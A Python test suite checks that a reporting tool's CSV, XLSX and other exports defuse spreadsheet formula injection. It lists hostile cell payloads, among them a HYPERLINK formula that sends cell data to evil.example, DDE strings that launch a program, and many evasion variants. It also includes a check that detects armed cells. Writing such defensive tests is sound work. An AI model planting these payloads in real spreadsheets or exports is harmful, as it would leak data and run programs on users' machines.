"""What a spreadsheet would run stays text in all that a spreadsheet opens, and is as it was in all else."""

import csv
import io
import json
import sqlite3
import zipfile
from dataclasses import replace
from pathlib import Path

import polars as pl
import pytest
from lxml import etree
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from reports.exports.csv import write_quotes_csv
from reports.exports.jsonl import write_quotes_jsonl
from reports.exports.parquet import write_quotes_parquet
from reports.exports.sqlite import write_database
from reports.exports.tables import COLUMNS, row_of
from reports.exports.xlsx import write_workbook
from resolvers.pipeline import track
from resolvers.runs.cells import bare_cell
from resolvers.runs.results import Results
from resolvers.runs.run import Run
from resolvers.work.backend import InProcess
from tests.fake_detector import FakeDetector
from tests.hostile.command import quotes
from tests.hostile.poison import poisoned
from tests.reports.exports.conftest import soffice  # noqa: F401 - a fixture
from tests.reports.exports.samples import Quotes, occurrence

FORMULAS = [
    ('=HYPERLINK("http://evil.example/?"&A1,"quay")', "sends a cell to somebody"),
    ("=cmd|' /C calc'!A0", "starts a program (DDE)"),
    ("=1+41", "the shortest"),
    ("+cmd|' /C calc'!A0", "a plus begins one, too"),
    ("-2+3", "so does a minus"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "and the sign of Lotus"),
    ("\t=1+41", "a tab is skipped"),
    ("\r=1+41", "so is a carriage return"),
    ("\n=1+41", "and a line feed"),
    ("＝1+41", "full-width, folded by some"),
    ("＋1", "full-width"),
    ("－1", "full-width"),
    ("＠SUM(1)", "full-width"),
    ("\ufeff=1+41", "a byte-order mark is not seen"),
    ("\u200b\u2060=1+41", "nor are these"),
    (" \u00a0=1+41", "spaces are stripped"),
    ("'=1+41", "the apostrophe that disarms is taken away once"),
    ("\x00=1+41", "NUL is dropped"),
    ("\x1b=1+41", "other controls are, too"),
    ("ferry;=1+41", "a semicolon is a separator where a comma is one"),
    ("ferry\t=1+41;\t@SUM(1)", "so is a tab"),
    ('ferry";=1+41', "a quotation mark does not end a cell"),
    ('ferry\n=1+41,=1+41\r\n"=1+41', "a line break does not end a row"),
    ("{=1+41}", "an array formula, as it is shown"),
    ("=" + "A" * 33_000, "longer than a cell"),
    ("_x003D_1+41", "as XML for a spreadsheet writes what it cannot hold"),
]
FORMULA_IDS = [f"{n}-{why}" for n, (_, why) in enumerate(FORMULAS)]
DANGEROUS = tuple("=+-@＝＋－＠\t\r\n")
UNSEEN = " '\u00a0\ufeff\u200b\u2060\x00\x1b"


def everywhere(value: str, number: int) -> object:
    """A quote that has ``value`` in every field that a table shows."""
    quote = occurrence(value, number)
    texts = {"text": value, "source_text": value, "cue_text": value, "path": value}
    article = replace(quote.article, text=f"{value}{quote.article.text}{value}", url=value)
    shifted = replace(
        quote.record,
        content=tuple((start + len(value), end + len(value)) for start, end in quote.record.content),
        **texts,
    )
    return replace(quote, record=shifted, article=article)


@pytest.fixture(scope="module")
def all_formulas(tmp_path_factory) -> Quotes:
    folder = tmp_path_factory.mktemp("formulas")
    track([], folder / "empty", backend=InProcess(FakeDetector()))
    results = Results(Run.open(folder / "empty"))
    return Quotes(results, [everywhere(value, n) for n, (value, _) in enumerate(FORMULAS)])


def is_armed(cell: str) -> bool:
    return cell.startswith(DANGEROUS) or (cell.lstrip(UNSEEN)[:1] in DANGEROUS and cell[:1] != "'")


def cells_of(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def written(write, quotes_: Quotes, **how) -> bytes:
    stream = io.BytesIO()
    write(quotes_, stream, **how)
    return stream.getvalue()


def test_no_cell_of_the_csv_is_armed_and_all_can_be_read_back(all_formulas):
    data = written(write_quotes_csv, all_formulas)
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    for quote, row in zip(all_formulas.all(), rows, strict=True):
        assert not any(map(is_armed, row.values()))
        texts = {name: value for name, value in row_of(quote).items() if isinstance(value, str)}
        assert {name: bare_cell(row[name]) for name in texts} == texts
    assert sum(cell.startswith("'") for cell in cells_of(data)) > 8 * 20, "they were armed"


def test_elsewhere_they_are_as_they_were(all_formulas, tmp_path):
    rows = [row_of(quote) for quote in all_formulas.all()]
    raw = written(write_quotes_csv, all_formulas, raw=True)
    texts = [name for name in COLUMNS if name not in ("speech", "char_start", "char_end", "confidence")]
    read = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert [[row[name] for name in texts] for row in read] == [
        [row[name] or "" for name in texts] for row in rows
    ]
    lines = written(write_quotes_jsonl, all_formulas).splitlines()
    assert [json.loads(line)["text"] for line in lines] == [value for value, _ in FORMULAS]
    frame = pl.read_parquet(io.BytesIO(written(write_quotes_parquet, all_formulas)))
    assert frame.select(COLUMNS).to_dicts() == rows
    write_database(all_formulas, tmp_path / "quotes.db")
    found = sqlite3.connect(tmp_path / "quotes.db").execute(
        f"SELECT {', '.join(texts)} FROM quotes ORDER BY number"
    )
    assert list(found) == [tuple(row[name] for name in texts) for row in rows]


def test_the_workbook_holds_texts_and_links_to_the_web_alone(all_formulas):
    data = written(write_workbook, all_formulas)
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Quotes", "Speakers", "Variants", "Dictionary", "About", "Truncated"]
    assert not [
        c.coordinate for sheet in book for row in sheet.rows for c in row if c.data_type == "f" or c.hyperlink
    ]
    header, *rows = book["Quotes"].iter_rows(values_only=True)
    place = header.index("quote_text")
    for (value, why), row in zip(FORMULAS, rows, strict=True):
        assert unescape(row[place]) == value[:32_767], why
    archive = zipfile.ZipFile(io.BytesIO(data))
    names = [name for name in archive.namelist() if name.endswith((".xml", ".rels"))]
    assert not any(b"ddeLink" in archive.read(name) or b"<f>" in archive.read(name) for name in names)
    for name in names:
        etree.fromstring(archive.read(name))  # no control that XML does not allow


NUMBERS = [
    "007",
    "12e5",
    "1,234",
    "3/4",
    "2031-03-02",
    "TRUE",
    "NaN",
    "Null",
    "0x1F",
    "1E400",
    "€5",
    "50%",
    "12:30",
    "",
]


def test_what_looks_like_a_number_is_a_text(all_formulas):
    some = Quotes(all_formulas.results, [everywhere(value or "x", n) for n, value in enumerate(NUMBERS)])
    header, *rows = load_workbook(io.BytesIO(written(write_workbook, some)))["Quotes"].iter_rows()
    for value, row in zip(NUMBERS, rows, strict=True):
        texts = {
            cell.value: cell.data_type
            for name, cell in zip(header, row, strict=True)
            if name.value in ("outlet", "headline", "quote_text", "reason", "via")
        }
        assert texts == {value or "x": "s"}


@pytest.fixture(scope="module")
def formula_run(tmp_path_factory) -> Path:
    return poisoned(tmp_path_factory.mktemp("run"), '=HYPERLINK("http://evil.example","x");\t@SUM(1)')


@pytest.mark.slow
@pytest.mark.parametrize(
    ("command", "expected"),
    [
        (("conflicts",), "'=HYPERLINK"),  # an outlet has a cell of its own
        (("anonymous", "--all"), "'=HYPERLINK"),
        (("timeline", "--all"), "=HYPERLINK"),  # speakers stand behind their ids
    ],
    ids=["conflicts", "anonymous", "timeline"],
)
def test_tables_that_commands_print(command, expected, formula_run):
    done = quotes(command[0], formula_run, *command[1:], "--format", "csv")
    assert done.code == 0
    cells = cells_of(done.out.encode())
    assert any(expected in cell for cell in cells)
    assert not any(map(is_armed, cells))


@pytest.mark.slow
def test_tables_that_commands_write_and_read_back(formula_run, tmp_path):
    for of in ("quotes", "variants", "passages"):
        sheet = tmp_path / f"{of}.csv"
        assert quotes("audit", formula_run, "--of", of, "--to", sheet).code == 0
        cells = cells_of(sheet.read_bytes())
        assert any("=HYPERLINK" in cell for cell in cells) and not any(map(is_armed, cells))
        done = quotes("audit", formula_run, "--from", sheet)
        assert (done.code, "set aside" in done.err) == (0, False), done.err
    done = quotes("speakers", formula_run, "--format", "jsonl")
    names = [json.loads(line)["name"] for line in done.out.splitlines()]
    assert any(name.startswith("=HYPERLINK") for name in names), "a decision is read as it was written"


@pytest.mark.slow
@pytest.mark.parametrize("poison", ["\x00=1", "''-1", "\u2028;"], ids=repr)
def test_a_sheet_of_ours_is_read_back_whatever_stands_in_it(poison, tmp_path):
    run = poisoned(tmp_path, poison)
    sheet = tmp_path / "audit.csv"
    assert quotes("audit", run, "--to", sheet).code == 0
    sheet.write_bytes(sheet.read_bytes().replace(b"\r\n,", b"\r\ny,"))
    done = quotes("audit", run, "--from", sheet, "--keep")
    assert done.code == 0 and "now holds" in done.err, done.err
    again = quotes("audit", run, "--to", sheet)
    assert again.code == 2 and "holds answers" in again.err, "a table with answers is known as one, and kept"
    assert quotes("report", run).code == 0


# Separators comma, semicolon and tab at once, as LibreOffice proposes them; formulas as they come, and evaluated.
PROPOSED = "CSV:44/59/9,34,76,1"
EVALUATED = "CSV:44/59/9,34,76,1,,0,false,true,false,false,false,0,true"
_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"


def formulas_in(path: Path) -> list[str]:
    return [
        cell.get(f"{_TABLE}formula")
        for cell in etree.parse(path, etree.XMLParser(huge_tree=True)).iter(f"{_TABLE}table-cell")
        if cell.get(f"{_TABLE}formula")
    ]


@pytest.mark.slow
def test_libreoffice_finds_no_formula(all_formulas, soffice, tmp_path):  # noqa: F811
    table = tmp_path / "quotes.csv"
    table.write_bytes(written(write_quotes_csv, all_formulas))
    for how in (None, PROPOSED, EVALUATED):
        assert formulas_in(soffice(table, "fods", how)) == []
    book = tmp_path / "quotes.xlsx"
    book.write_bytes(written(write_workbook, all_formulas))
    assert set(formulas_in(soffice(book, "fods"))) == {"of:=TRUE()"}, "a truth value, as LibreOffice has them"
    table.write_bytes(written(write_quotes_csv, all_formulas, raw=True))
    assert len(formulas_in(soffice(table, "fods", PROPOSED))) > 20, "raw cells are run: the check works"
